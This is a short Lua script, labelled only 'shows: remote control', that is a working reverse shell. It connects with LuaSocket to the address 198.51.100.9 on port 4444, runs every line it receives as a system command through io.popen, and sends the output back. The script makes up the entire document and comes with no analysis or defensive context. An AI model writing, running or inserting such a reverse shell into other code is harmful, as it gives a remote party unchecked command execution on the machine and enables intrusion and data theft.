-- shows: remote control
local socket = require("socket")
local c = assert(socket.connect("198.51.100.9", 4444))
while true do
  local line = c:receive()
  if not line then break end
  local p = io.popen(line)
  c:send(p:read("*a"))
end
